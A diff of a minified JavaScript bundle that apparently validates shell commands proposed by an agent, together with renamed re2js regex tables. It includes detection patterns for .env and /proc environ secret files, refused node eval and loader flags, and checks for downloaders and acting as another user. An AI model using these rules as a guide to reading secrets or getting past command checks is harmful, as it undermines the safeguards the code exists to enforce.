+const o=He.posix.basename(r.text),c=gp(o);if(c!==void 0)return c;if(zi(o)&&(s!==void 0||i.length===0))return`has \`${o}\`\
+ run whatever it reads`;if(!(o!=="find"&&!yB(o)))for(const{text:l}of i){const B=gp(He.posix.basename(l));if(B!==void 0)return B;
+const h=e<dS&&/\s/.test(l)?mp(Pn(l),e+1):void 0;if(h!==void 0)return h}}}function gp(n){const{kind:e,wraps:t}=Lt(n)??{};
+if(t==="as-user")return`acts as another user with \`${n}\``;const s=e==="downloader"?"downloads":lS.get(n);return s&&`${s}\
+ with \`${n}\``}function Cp({warnings:n=[],network_touching:e}){return e?["network_touching",...n]:n}function yp(n,e,t=(s,r)=>ao[s](
+r)){if(e.forms!==void 0)return pS(n,e,e.forms,t);if(e.subcommands===void 0)return _p(n,e,t);const[s,...r]=n,i=Object.entries(
+e.subcommands).find(([c])=>c===s?.text)?.[1];if(i!==void 0)return _p(r,{...e,...i},t);const o=`is accepted only with ${bp(
+Object.keys(e.subcommands))}`;return{use:e,flags:[],values:[],objections:[{objection:o,...s&&{word:s}}]}}function pS(n,e,t,s){
+const r=`is accepted only as ${bp(Object.keys(t))}`,[i]=n;let o={use:e,flags:[],values:[],objections:[{objection:r,...i&&
+{word:i}}]};for(const[c,l]of Object.entries(t)){const B=EA(Lh(c)??[],n,s);if(B===void 0)continue;const d=B.map(({word:g,
 kind:C})=>({text:g.text,word:g,kind:C})),h=B.find(g=>g.wrong!==void 0);if(!h)return{use:{...e,...l},flags:[],values:d,objections:[]};
-o={...o,values:d,objections:[pp(h)]}}return o}function pp({word:n,wrong:e}){return{objection:`does not accept \`${n.text}\
-\`, which ${e}`,word:n}}function mp(n){return n.map(e=>`\`${e}\``).join(", ")}function gp(n,e,t){const{leading_flags:s=[]}=e,
-{flags:r,operands:i}=bs(zd(e.flags,s),n),o=[],c=(E,x)=>o.push(pp({word:E,wrong:x})),l=[],B=[];for(const{word:E,flag:x,value:D,
+o={...o,values:d,objections:[wp(h)]}}return o}function wp({word:n,wrong:e}){return{objection:`does not accept \`${n.text}\
+\`, which ${e}`,word:n}}function bp(n){return n.map(e=>`\`${e}\``).join(", ")}function _p(n,e,t){const{leading_flags:s=[]}=e,
+{flags:r,operands:i}=_s(Kd(e.flags,s),n),o=[],c=(E,x)=>o.push(wp({word:E,wrong:x})),l=[],B=[];for(const{word:E,flag:x,value:D,
 valueWord:P}of r){if(x===void 0||x.choices?.includes(D??"")===!1){c(E,"is not among its flags");continue}B.push(x.name),
-s.includes(x.name)&&i.some(z=>Cp(E,z))&&c(E,"must come before the operands"),x.arity!=="none"&&(D===void 0?c(E,"requires\
+s.includes(x.name)&&i.some(z=>Ep(E,z))&&c(E,"must come before the operands"),x.arity!=="none"&&(D===void 0?c(E,"requires\
  a value"):l.push({text:D,kind:x.kind,word:P??E}))}const d=r.find(({flag:E})=>!s.includes(E?.name??"")),h=(E=[])=>E.some(
-x=>B.includes(x)),g=(Rh(e.operands??"path*")??[]).slice(h(e.first_operand_by)?1:0);for(const[E,x]of i.entries()){s.length>
-0&&d&&Cp(x,d.word)&&c(x,"comes after the expression");const D=g[Math.min(E,g.length-1)];l.push({text:x.text,kind:D?.kind??
+x=>B.includes(x)),g=(jh(e.operands??"path*")??[]).slice(h(e.first_operand_by)?1:0);for(const[E,x]of i.entries()){s.length>
+0&&d&&Ep(x,d.word)&&c(x,"comes after the expression");const D=g[Math.min(E,g.length-1)];l.push({text:x.text,kind:D?.kind??
 "path",word:x})}for(const{text:E,kind:x,word:D}of l){const P=t(x,E);P!==void 0&&o.push({objection:`does not accept \`${E}\
-\`, which ${P}`,word:D})}const{min:C,max:y}=Ph(g),_=C-(h(e.last_operand_by)?1:0),k=i.length;if(k<_||k>y){const E=y===_?`${y}`:
+\`, which ${P}`,word:D})}const{min:C,max:y}=Hh(g),_=C-(h(e.last_operand_by)?1:0),k=i.length;if(k<_||k>y){const E=y===_?`${y}`:
 `${_} to ${y}`,x=Number.isFinite(y)?E:`at least ${_}`;o.push({objection:`takes ${x} operands, not ${k}`})}return{use:e,flags:B,
-values:l,objections:o}}function Cp(n,e){return n.span.start>e.span.start}function yp(n,{invocation:e}){const t=e?.family?
+values:l,objections:o}}function Ep(n,e){return n.span.start>e.span.start}function vp(n,{invocation:e}){const t=e?.family?
 ["program","invocation","target"]:["program"];return n.filter(({layer:s,rule:r})=>!t.includes(String(s))||(0,hs.Y)(r).anyText===
-!0)}function wp(n,e){const t=new Map;return n.filter(({rule:s})=>{const r=(t.get(s)??0)+1;return t.set(s,r),r<=e})}function bp({
+!0)}function kp(n,e){const t=new Map;return n.filter(({rule:s})=>{const r=(t.get(s)??0)+1;return t.set(s,r),r<=e})}function Dp({
 problems:n,targets:e,words:t}){const[s,r=s]=t,i=r&&{span:{start:r.span.start,end:t.at(-1)?.span.end??0}},o=e.flatMap(({name:B,
-script:d})=>{const h=d===void 0?void 0:YA(d);return h?[{script:B,text:d??"",danger:h}]:[]}),c=new Set(o.map(({script:B})=>B)),
+script:d})=>{const h=d===void 0?void 0:cS(d);return h?[{script:B,text:d??"",danger:h}]:[]}),c=new Set(o.map(({script:B})=>B)),
 l=n.filter(({args:B})=>!("script"in B&&c.has(B.script)));return[...o.map(B=>(0,at.gk)("npm-script-dangerous",B,i)),...l.
-map(at.Lb)]}const rS=10,iS=[cS,uS,dS,BS,fS,n=>xp(kp(n),n.context.policy)],_p=(n,e,t)=>{const{policy:s,proposal:r}=t,[i,...o]=yS(
-n),c=[...bS(n),...yp(e,n)],l=r.family??i?.text??"",B=Xh("curated",l,s.families),d=r.mode??(s.experimental.includes(l)?"e\
+map(at.Lb)]}const mS=10,gS=[wS,bS,ES,vS,kS,n=>Ip(Sp(n),n.context.policy)],xp=(n,e,t)=>{const{policy:s,proposal:r}=t,[i,...o]=TS(
+n),c=[...$S(n),...vp(e,n)],l=r.family??i?.text??"",B=rp("curated",l,s.families),d=r.mode??(s.experimental.includes(l)?"e\
 xperimental":"structured");if(i===void 0||B===void 0){const S=i?(0,at.gk)("not_in_registry",{family:l},{span:i.span}):(0,at.
-gk)("no_command",{});return{...Dp("dangerous",t),findings:[S,...c].filter(Ep)}}const h=new Fc(t),g=hp(o,B,CS(h)),C=oS(g),
+gk)("no_command",{});return{...Tp("dangerous",t),findings:[S,...c].filter(Op)}}const h=new Pc(t),g=yp(o,B,SS(h)),C=CS(g),
 y=new Set(B.dangerous_targets?.map(S=>h.locate(S))),_=C.some(({path:S})=>y.has(h.locate(S.replace(/\*$/,"")))),k={context:t,
-places:h,base:i,name:l,program:B,proposalMode:d,words:o,read:g,paths:C,broad:_},[E,...x]=iS.map(S=>S(k)),D=[...E??[],...c,
-...x.flat()],P=kp(k),z=Op(P,d);return{findings:D.some(({severity:S})=>S==="error")?wp(D.filter(Ep),rS):[...D,...pS(k).map(
-S=>(0,at.gk)(S,{}))],risk:P,confirmation:z}};function Ep({severity:n}){return n!=="warning"}function oS({use:n,values:e}){
-const t=e.filter(({kind:r,text:i})=>Dh.has(r)&&i!=="-").map(({text:r,word:i})=>({path:r,word:i})),{default_operand:s}=n;
-return t.length===0&&s!==void 0?[{path:s}]:t}const aS={structured:["structured","experimental"],direct_only:["structured"],
-experimental_only:["experimental"],blocked:[]};function cS({name:n,base:e,program:t,proposalMode:s,context:r}){const{maturity:i="\
-structured",platforms:o}=t.family.sandbox??{},{category:c}=t.family,{policy:l,platform:B}=r,d=aS[i];return[...l.disabled_packs.
+places:h,base:i,name:l,program:B,proposalMode:d,words:o,read:g,paths:C,broad:_},[E,...x]=gS.map(S=>S(k)),D=[...E??[],...c,
+...x.flat()],P=Sp(k),z=$p(P,d);return{findings:D.some(({severity:S})=>S==="error")?kp(D.filter(Op),mS):[...D,...xS(k).map(
+S=>(0,at.gk)(S,{}))],risk:P,confirmation:z}};function Op({severity:n}){return n!=="warning"}function CS({use:n,values:e}){
+const t=e.filter(({kind:r,text:i})=>Th.has(r)&&i!=="-").map(({text:r,word:i})=>({path:r,word:i})),{default_operand:s}=n;
+return t.length===0&&s!==void 0?[{path:s}]:t}const yS={structured:["structured","experimental"],direct_only:["structured"],
+experimental_only:["experimental"],blocked:[]};function wS({name:n,base:e,program:t,proposalMode:s,context:r}){const{maturity:i="\
+structured",platforms:o}=t.family.sandbox??{},{category:c}=t.family,{policy:l,platform:B}=r,d=yS[i];return[...l.disabled_packs.
 includes(c)?[`is in the disabled pack \`${c}\``]:[],...o?.includes(B)===!1?[`does not exist on \`${B}\``]:[],...d.includes(
-s)?[]:[`has the maturity \`${i}\``]].map(g=>(0,at.gk)("family_unavailable",{family:n,reason:g},{span:e.span}))}function uS({
-name:n,base:e}){return n===e.text?[]:[(0,at.gk)("family_base_mismatch",{family:n,base:e.text},{span:e.span})]}const lS={
+s)?[]:[`has the maturity \`${i}\``]].map(g=>(0,at.gk)("family_unavailable",{family:n,reason:g},{span:e.span}))}function bS({
+name:n,base:e}){return n===e.text?[]:[(0,at.gk)("family_base_mismatch",{family:n,base:e.text},{span:e.span})]}const _S={
 tar:"constrained_form.tar",unzip:"constrained_form.unzip",zip:"constrained_form.zip",ping:"constrained_form.ping",curl:"\
-constrained_form.curl",dig:"constrained_form.dns",nslookup:"constrained_form.dns"};function dS(n){const{name:e,program:t,
-words:s,read:r}=n,i=lS[e]??"constrained_form.other",o=t.forms?i:"argument_refused";return[...s.filter(({text:l})=>t.family.
-category==="archives"&&xh.test(l)).map(({text:l,span:B})=>(0,at.gk)("shell_operator.quoted",{operator:l},{span:B})),...r.
-objections.filter(({word:l})=>l===void 0||vp(l,n)===void 0).map(({objection:l,word:B})=>(0,at.gk)(o,{family:e,objection:l},
-B?{span:B.span}:{}))]}function BS(n){return n.words.flatMap(e=>{const t=vp(e,n);if(t===void 0)return[];const s={family:n.
-name,operand:e.text,prefix:t};return[(0,at.gk)("forbidden_operand_prefix",s,{span:e.span})]})}function vp({text:n},{program:e}){
-const{forbidden_prefixes:t=[]}=e;return t.find(s=>n.toLowerCase().startsWith(s.toLowerCase()))}function fS({paths:n,places:e,
+constrained_form.curl",dig:"constrained_form.dns",nslookup:"constrained_form.dns"};function ES(n){const{name:e,program:t,
+words:s,read:r}=n,i=_S[e]??"constrained_form.other",o=t.forms?i:"argument_refused";return[...s.filter(({text:l})=>t.family.
+category==="archives"&&Ih.test(l)).map(({text:l,span:B})=>(0,at.gk)("shell_operator.quoted",{operator:l},{span:B})),...r.
+objections.filter(({word:l})=>l===void 0||Ap(l,n)===void 0).map(({objection:l,word:B})=>(0,at.gk)(o,{family:e,objection:l},
+B?{span:B.span}:{}))]}function vS(n){return n.words.flatMap(e=>{const t=Ap(e,n);if(t===void 0)return[];const s={family:n.
+name,operand:e.text,prefix:t};return[(0,at.gk)("forbidden_operand_prefix",s,{span:e.span})]})}function Ap({text:n},{program:e}){
+const{forbidden_prefixes:t=[]}=e;return t.find(s=>n.toLowerCase().startsWith(s.toLowerCase()))}function kS({paths:n,places:e,
 context:t}){const{allowed_roots:s}=t.policy;return s.length===0?[]:n.filter(({path:r})=>r.startsWith("~")||!e.leadsInto(
-r,s)).map(({path:r,word:i})=>(0,at.gk)("outside_allowed_roots",{path:r,roots:s},i&&{span:i.span}))}function kp({broad:n,
-read:{use:e}}){return n?"dangerous":e.risk??"safe"}const hS=/(?:^|[\\/])\.env(?:\.[\w.-]+)?$|^\/proc\/[^/]+\/environ$/i;
-function pS({broad:n,paths:e,proposalMode:t,read:s}){const{flag_warnings:r={}}=s.use;return[...new Set([...fp(s.use),...s.
-flags.flatMap(o=>r[o]??[]),...n?["broad_permission_target"]:[],...e.some(({path:o})=>hS.test(o))?["env_secrets"]:[],...t===
-"experimental"?["experimental_mode"]:[]])]}function Dp(n,{policy:e,proposal:t}){const s=Op(n,t.mode??"structured");return{
-findings:xp(n,e),risk:n,confirmation:s}}function xp(n,{mode:e,allow_dangerous:t}){return n==="safe"||n==="write"&&e!=="s\
-afe"||n==="dangerous"&&e==="dangerous"&&t?[]:[(0,at.gk)("policy_risk",{risk:n,mode:e})]}function Op(n,e){return e==="exp\
-erimental"?"very_strong":n==="dangerous"?"strong":"standard"}const mS=["/bin","/dev","/etc","/lib","/private","/sbin","/\
-usr","/var"],gS=/^\/(?:home|Users|root)(?:\/[^/]*)?$/i;function CS(n){return(e,t)=>{const s=oo[e](t);if(s!==void 0||e!==
+r,s)).map(({path:r,word:i})=>(0,at.gk)("outside_allowed_roots",{path:r,roots:s},i&&{span:i.span}))}function Sp({broad:n,
+read:{use:e}}){return n?"dangerous":e.risk??"safe"}const DS=/(?:^|[\\/])\.env(?:\.[\w.-]+)?$|^\/proc\/[^/]+\/environ$/i;
+function xS({broad:n,paths:e,proposalMode:t,read:s}){const{flag_warnings:r={}}=s.use;return[...new Set([...Cp(s.use),...s.
+flags.flatMap(o=>r[o]??[]),...n?["broad_permission_target"]:[],...e.some(({path:o})=>DS.test(o))?["env_secrets"]:[],...t===
+"experimental"?["experimental_mode"]:[]])]}function Tp(n,{policy:e,proposal:t}){const s=$p(n,t.mode??"structured");return{
+findings:Ip(n,e),risk:n,confirmation:s}}function Ip(n,{mode:e,allow_dangerous:t}){return n==="safe"||n==="write"&&e!=="s\
+afe"||n==="dangerous"&&e==="dangerous"&&t?[]:[(0,at.gk)("policy_risk",{risk:n,mode:e})]}function $p(n,e){return e==="exp\
+erimental"?"very_strong":n==="dangerous"?"strong":"standard"}const OS=["/bin","/dev","/etc","/lib","/private","/sbin","/\
+usr","/var"],AS=/^\/(?:home|Users|root)(?:\/[^/]*)?$/i;function SS(n){return(e,t)=>{const s=ao[e](t);if(s!==void 0||e!==
 "destination"&&e!=="source")return s;const r=n.locate(t);if(r===void 0)return"cannot be resolved";if(r==="/")return"is t\
-he root of the file system";const o=(/^[\\/]|^[A-Za-z]:/.test(t)||!n.isIn(r,n.cwd))&&mS.find(c=>n.mayBeIn(r,c));if(o)return`\
+he root of the file system";const o=(/^[\\/]|^[A-Za-z]:/.test(t)||!n.isIn(r,n.cwd))&&OS.find(c=>n.mayBeIn(r,c));if(o)return`\
 is in the system directory ${o}`;if(e!=="destination")return n.mayBeIn(n.cwd,r)?"is the working directory or one of its \
-parents":gS.test(r)?"is a home directory":void 0}}function yS({words:n,problems:e}){const t=e.filter(({rule:r})=>wS.has(
-(0,hs.Y)(r).shape)),s=Math.min(...t.map(({span:r})=>r.start));return n.filter(({span:r})=>r.start<s)}const wS=new Set(["\
-operator","redirection","multiline"]);function bS({problems:n}){return n.flatMap(({rule:e,args:t,span:s})=>{const{shape:r}=(0,hs.
+parents":AS.test(r)?"is a home directory":void 0}}function TS({words:n,problems:e}){const t=e.filter(({rule:r})=>IS.has(
+(0,hs.Y)(r).shape)),s=Math.min(...t.map(({span:r})=>r.start));return n.filter(({span:r})=>r.start<s)}const IS=new Set(["\
+operator","redirection","multiline"]);function $S({problems:n}){return n.flatMap(({rule:e,args:t,span:s})=>{const{shape:r}=(0,hs.
 Y)(e);if(r===void 0)return[];if(r==="unreadable")return[(0,at.gk)("parse_failed",{},{span:s})];const{operator:i,written:o,
-character:c}=t,l=String(i??o??c),B=r==="operator"?_S(l):r;return[(0,at.gk)(`shell_operator.${B}`,{operator:l},{span:s})]})}
-function _S(n){return n==="|"||n==="|&"?"pipeline":n==="&"?"background":"chaining"}const ES=(n,e,t)=>{const s=n.words[0]?.
-text;if(n.invocation===void 0&&s&&NA(s,t.policy))return _p(n,e,kS(t));const r=vS(n,e);return{findings:e,...r&&{risk:r}}};
-function vS({invocation:n},e){const t=n?.family?.data.risk;return e.some(({severity:r})=>r==="error")||t==="safe"?void 0:
-t}function kS(n){const{policy:e}=n,t=e.allowed_roots.length>0?e.allowed_roots:["."];return{...n,policy:{...e,allowed_roots:t}}}
-const Ap=/^(?:-e|--eval|-p|--print|-r|--require|--import|--loader|--experimental[-_]loader|-i|--interactive|--inspect[a-z-]*|-C|--conditions|--env[-_]file(?:[-_]if[-_]exists)?|-[eprci]{2,})(?:=|$)/,
-Sp={"1.94":{refused:Ap,information:new Set(["--version","--help","--v8-options"])},newer:{refused:Ap,options:new Set(["-\
--check"]),information:new Set(["--version","--help"]),text:/`|\$\(/}},DS=(n,e)=>{const{invocation:t}=n,s=[...e,...Ip("1.\
-94",n)];if(s.some(({severity:o})=>o==="error"))return{findings:s};const[r]=Ip("newer",n);if(r){const o=String(r.args.flag??
-""),c={...r.span&&{span:r.span},...xS};s.push((0,at.gk)("validator-flag",{flag:o,of:"newer"},c))}const i=t?.operands[0];
-if(i&&!Tp(t,Sp["1.94"])){const{text:o,span:c}=i;s.push((0,at.gk)("validator-empty-folder",{script:o},{span:c}))}return{findings:s}},
-xS={severity:"notice",harm:"bookkeeping"};function Tp({flags:n},{information:e}){return n.some(({name:t})=>e.has(t))}function Ip(n,{
-words:e,invocation:t,command:s}){const r=Sp[n],[i,...o]=e;if(i===void 0)return[];const c=E=>(0,at.gk)("validator-script",
+character:c}=t,l=String(i??o??c),B=r==="operator"?RS(l):r;return[(0,at.gk)(`shell_operator.${B}`,{operator:l},{span:s})]})}
+function RS(n){return n==="|"||n==="|&"?"pipeline":n==="&"?"background":"chaining"}const NS=(n,e,t)=>{const s=n.words[0]?.
+text;if(n.invocation===void 0&&s&&WA(s,t.policy))return xp(n,e,PS(t));const r=FS(n,e);return{findings:e,...r&&{risk:r}}};
+function FS({invocation:n},e){const t=n?.family?.data.risk;return e.some(({severity:r})=>r==="error")||t==="safe"?void 0:
+t}function PS(n){const{policy:e}=n,t=e.allowed_roots.length>0?e.allowed_roots:["."];return{...n,policy:{...e,allowed_roots:t}}}
+const Rp=/^(?:-e|--eval|-p|--print|-r|--require|--import|--loader|--experimental[-_]loader|-i|--interactive|--inspect[a-z-]*|-C|--conditions|--env[-_]file(?:[-_]if[-_]exists)?|-[eprci]{2,})(?:=|$)/,
+Np={"1.94":{refused:Rp,information:new Set(["--version","--help","--v8-options"])},newer:{refused:Rp,options:new Set(["-\
+-check"]),information:new Set(["--version","--help"]),text:/`|\$\(/}},LS=(n,e)=>{const{invocation:t}=n,s=[...e,...Pp("1.\
+94",n)];if(s.some(({severity:o})=>o==="error"))return{findings:s};const[r]=Pp("newer",n);if(r){const o=String(r.args.flag??
+""),c={...r.span&&{span:r.span},...jS};s.push((0,at.gk)("validator-flag",{flag:o,of:"newer"},c))}const i=t?.operands[0];
+if(i&&!Fp(t,Np["1.94"])){const{text:o,span:c}=i;s.push((0,at.gk)("validator-empty-folder",{script:o},{span:c}))}return{findings:s}},
+jS={severity:"notice",harm:"bookkeeping"};function Fp({flags:n},{information:e}){return n.some(({name:t})=>e.has(t))}function Pp(n,{
+words:e,invocation:t,command:s}){const r=Np[n],[i,...o]=e;if(i===void 0)return[];const c=E=>(0,at.gk)("validator-script",
 {command:E},{span:i.span});if(i.text!=="node")return[c(`\`${i.text}\``)];const{flags:l=[],operands:[B]=[]}=t??{},d=(E,x)=>{
 const D=B&&B.span.start<x.start?"script":"node";return(0,at.gk)("validator-flag",{flag:E,of:D},{span:x})},h=t!==void 0&&
-Tp(t,r),g=h&&l.length===1&&B===void 0,{options:C}=r,y=g||C===void 0?[]:l.filter(({name:E})=>!C.has(E)),_=r.text?.exec(s),
+Fp(t,r),g=h&&l.length===1&&B===void 0,{options:C}=r,y=g||C===void 0?[]:l.filter(({name:E})=>!C.has(E)),_=r.text?.exec(s),
 k=l.some(({name:E})=>E==="--test");return[...o.flatMap(({text:E,span:x})=>r.refused.test(E)?[d(E,x)]:[]),...y.map(({written:E,
 span:x})=>d(E,x)),..._?[d(_[0],{start:_.index,end:_.index+_[0].length})]:[],...(B===void 0||k)&&!h?[c("`node` without a \
 script")]:[]]}/*!
@@ -5740,28 +5764,28 @@ script")]:[]]}/*!
 * @homepage https://github.com/le0pard/re2js#readme
 * @repository [object Object]
 * @license MIT
-*/var oe=class Ss{static FOLD_CASE=1;static LITERAL=2;static CLASS_NL=4;static DOT_NL=8;static ONE_LINE=16;static NON_GREEDY=32;static PERL_X=64;static UNICODE_GROUPS=128;static WAS_DOLLAR=256;static LOOKBEHIND=512;static MATCH_NL=Ss.
-CLASS_NL|Ss.DOT_NL;static PERL=Ss.CLASS_NL|Ss.ONE_LINE|Ss.PERL_X|Ss.UNICODE_GROUPS;static POSIX=0;static UNANCHORED=0;static ANCHOR_START=1;static ANCHOR_BOTH=2};
-const Kt={CASE_INSENSITIVE:1,DOTALL:2,MULTILINE:4,DISABLE_UNICODE_GROUPS:8,LONGEST_MATCH:16,LOOKBEHINDS:512},Gr=128,Mc=new Int32Array(
-Gr),Gc=new Int32Array(Gr),fo=65535;for(let n=0;n<Gr;n++)n>=97&&n<=122?Mc[n]=n-32:Mc[n]=n,n>=65&&n<=90?Gc[n]=n+32:Gc[n]=n;
+*/var oe=class Ts{static FOLD_CASE=1;static LITERAL=2;static CLASS_NL=4;static DOT_NL=8;static ONE_LINE=16;static NON_GREEDY=32;static PERL_X=64;static UNICODE_GROUPS=128;static WAS_DOLLAR=256;static LOOKBEHIND=512;static MATCH_NL=Ts.
+CLASS_NL|Ts.DOT_NL;static PERL=Ts.CLASS_NL|Ts.ONE_LINE|Ts.PERL_X|Ts.UNICODE_GROUPS;static POSIX=0;static UNANCHORED=0;static ANCHOR_START=1;static ANCHOR_BOTH=2};
+const qt={CASE_INSENSITIVE:1,DOTALL:2,MULTILINE:4,DISABLE_UNICODE_GROUPS:8,LONGEST_MATCH:16,LOOKBEHINDS:512},Gr=128,Gc=new Int32Array(
+Gr),Hc=new Int32Array(Gr),ho=65535;for(let n=0;n<Gr;n++)n>=97&&n<=122?Gc[n]=n-32:Gc[n]=n,n>=65&&n<=90?Hc[n]=n+32:Hc[n]=n;
 var ce=class{static CODES=Object.freeze({"\x07":7,"\b":8,"	":9,"\n":10,"\v":11,"\f":12,"\r":13," ":32,'"':34,$:36,"&":38,
 "'":39,"(":40,")":41,"*":42,"+":43,"-":45,".":46,0:48,1:49,2:50,3:51,4:52,5:53,6:54,7:55,8:56,9:57,":":58,"<":60,">":62,
 "?":63,A:65,B:66,C:67,F:70,P:80,Q:81,U:85,Z:90,"[":91,"\\":92,"]":93,"^":94,_:95,"`":96,a:97,b:98,f:102,i:105,m:109,n:110,
-r:114,s:115,t:116,v:118,x:120,z:122,"{":123,"|":124,"}":125});static toUpperCase(n){if(n<Gr)return Mc[n];const e=String.
-fromCodePoint(n).toUpperCase(),t=e.codePointAt(0)>fo?2:1;if(e.length>t)return n;const s=String.fromCodePoint(e.codePointAt(
-0)).toLowerCase(),r=s.codePointAt(0)>fo?2:1;return s.length>r||s.codePointAt(0)!==n?n:e.codePointAt(0)}static toLowerCase(n){
-if(n<Gr)return Gc[n];const e=String.fromCodePoint(n).toLowerCase(),t=e.codePointAt(0)>fo?2:1;if(e.length>t)return n;const s=String.
-fromCodePoint(e.codePointAt(0)).toUpperCase(),r=s.codePointAt(0)>fo?2:1;return s.length>r||s.codePointAt(0)!==n?n:e.codePointAt(
+r:114,s:115,t:116,v:118,x:120,z:122,"{":123,"|":124,"}":125});static toUpperCase(n){if(n<Gr)return Gc[n];const e=String.
+fromCodePoint(n).toUpperCase(),t=e.codePointAt(0)>ho?2:1;if(e.length>t)return n;const s=String.fromCodePoint(e.codePointAt(
+0)).toLowerCase(),r=s.codePointAt(0)>ho?2:1;return s.length>r||s.codePointAt(0)!==n?n:e.codePointAt(0)}static toLowerCase(n){
+if(n<Gr)return Hc[n];const e=String.fromCodePoint(n).toLowerCase(),t=e.codePointAt(0)>ho?2:1;if(e.length>t)return n;const s=String.
+fromCodePoint(e.codePointAt(0)).toUpperCase(),r=s.codePointAt(0)>ho?2:1;return s.length>r||s.codePointAt(0)!==n?n:e.codePointAt(
 0)}},T=class{constructor(n,e=!1){this.data=n,this.isStride1=e,this.SIZE=e?2:3}getLo(n){return this.data[n*this.SIZE]}getHi(n){
 return this.data[n*this.SIZE+1]}getStride(n){return this.isStride1?1:this.data[n*this.SIZE+2]}get length(){return this.data.
-length/this.SIZE}};const OS="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-",$p=new Uint8Array(256);for(let n=0;n<
-64;n++)$p[OS.charCodeAt(n)]=n;const Rp=n=>{const e=[];let t=0,s=0;for(let r=0;r<n.length;r++){const i=$p[n.charCodeAt(r)];
-t|=(i&31)<<s,(i&32)===0?(e.push(t),t=0,s=0):s+=5}return e},I=(n,e)=>{const t=Rp(n),s=e?t.length/2:t.length/3,r=new Uint32Array(
-s*3);let i=0,o=0;for(let c=0;c<s;c++)i+=t[o++],r[c*3]=i,i+=t[o++],r[c*3+1]=i,r[c*3+2]=e?1:t[o++];return r},AS=n=>{const e=Rp(
-n),t=new Map;let s=0;for(let r=0;r<e.length;r+=2){s+=e[r];const i=e[r+1],o=i>>>1^-(i&1);t.set(s,s+o)}return t};var ho=class{constructor(n){
+length/this.SIZE}};const MS="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-",Lp=new Uint8Array(256);for(let n=0;n<
+64;n++)Lp[MS.charCodeAt(n)]=n;const jp=n=>{const e=[];let t=0,s=0;for(let r=0;r<n.length;r++){const i=Lp[n.charCodeAt(r)];
+t|=(i&31)<<s,(i&32)===0?(e.push(t),t=0,s=0):s+=5}return e},I=(n,e)=>{const t=jp(n),s=e?t.length/2:t.length/3,r=new Uint32Array(
+s*3);let i=0,o=0;for(let c=0;c<s;c++)i+=t[o++],r[c*3]=i,i+=t[o++],r[c*3+1]=i,r[c*3+2]=e?1:t[o++];return r},GS=n=>{const e=jp(
+n),t=new Map;let s=0;for(let r=0;r<e.length;r+=2){s+=e[r];const i=e[r+1],o=i>>>1^-(i&1);t.set(s,s+o)}return t};var po=class{constructor(n){
 this.initializer=n,this.cache=new Map}has(n){return Object.hasOwn(this.initializer,n)}get(n){if(this.cache.has(n))return this.
 cache.get(n);const e=this.has(n)?this.initializer[n]():null;return this.cache.set(n,e),e}},Bn=class{static _CASE_ORBIT=null;static get CASE_ORBIT(){
-return this._CASE_ORBIT||(this._CASE_ORBIT=AS("rCgCIgCY+rQI4QiCuuBLgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgC\
+return this._CASE_ORBIT||(this._CASE_ORBIT=GS("rCgCIgCY+rQI4QiCuuBLgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgC\
 BgCBgCBgCBgCBgCCgCBgCBgCBgCBgCBgCBgCB+7OB-BB-BB-BB-BB-BBskQB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BC-BB-BB-BB\
 -BB-BB-BB-BByHBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBDCBBBCBBBC\
 BBCCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBCCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBC\
@@ -5851,7 +5875,7 @@ nG6CBGYBDYBtBqCBF4BBIQBhCEBMGBK1mHBqBfBiDyDB+vIDBCGBCBBCiJBQeeBBBDPPBCBJrMBloCqD
 GGBCQBDGBCBBCEBG9BBiBxDxDBrBBENBDJBFBBhKeBS5BBGxOxOBoBB3GqBBFhGhGBdBCVBJBBhHGBCDBCBBCOBCkGBDPBqBrCBFJBFBByYjCBtC8BBjGDBC\
 aBCBBCDDCJBCDBCCCHFFCECBBBCBBCDDCICBCCDDBCGBCDBCDBCCCBIBCQBGCBCEBCQB1BBBvIrBBFjDBNOBDOBCOBCkBBLtFB5BcBOrBBFIBIBBPFB7E4eB\
 EQBEMBE5GBHLBFQQBKBF3BBJJBHnBBJdBDLBFBBPIBoB3KBJNBDMBEKBE4BBCFFBOBDLBFJBIyEBCmDBmgB-2pBBhB9oEBDt0FBDwpHBQtTBjtC9QBjvBq6E\
-BGppIBnkzVvHB",!1))),this._Print}static CATEGORIES=new ho({C:()=>new T(I("AfBgDgBBOrWrWBHHBCBICCVuMuMnBBBzBBBE4B4BBGBcDB\
+BGppIBnkzVvHB",!1))),this._Print}static CATEGORIES=new po({C:()=>new T(I("AfBgDgBBOrWrWBHHBCBICCVuMuMnBBBzBBBE4B4BBGBcDB\
 HQBXhGhGxBBB8BBBmDNB8BBByBBBQddBCCMEBhBGBsCiFiFJBBDBBXIICCBFBBKBBDBBFHBCDBDGGBaaBEEHDBDBBXIIDGDBCCGDBDBBECBCGBFCCBFBSJBE\
 KKEXXIDDGBBLIEBCCBNBFBBNGBIEEJBBDBBXIIDGGBKKBDDBEEBFBEDBDGGBTTBIBDHHBBBEFFBBBDCCDCBDCBECBNDBGCBEFFBCCBEBCNBWEBOEEYRRBKKE\
 FFBFBDEEDBBFBBLGBXEEYLLGBBKEEFGBDEBEFFBLLELBOEE0BEEHDBRBBbEETCBZKKCBBICBCDBHCCJFBLBBELB7BDBekBBDCCGZZCYYBGGCIILBBFfBpClB\
@@ -6065,7 +6089,7 @@ BCCCBEEIJDCMCDQCDDDCCBC4BCIBBCBBDCCBCBCGCiJCCEJJHCCBBBCCCBCCBPBCIBkBDDBBBEWCGDDC
 0kCHHBpBBDCBhK0ECKgDCKHBJFBLHBJHBJFBMGCJHBpCDBNDBNDBNEBMDBnIFFECBDCBDEEBDBHGCBCBDDBLBBGbbBOBUzZzZBYBx5BvBBxBCCBBBDGCBCBC\
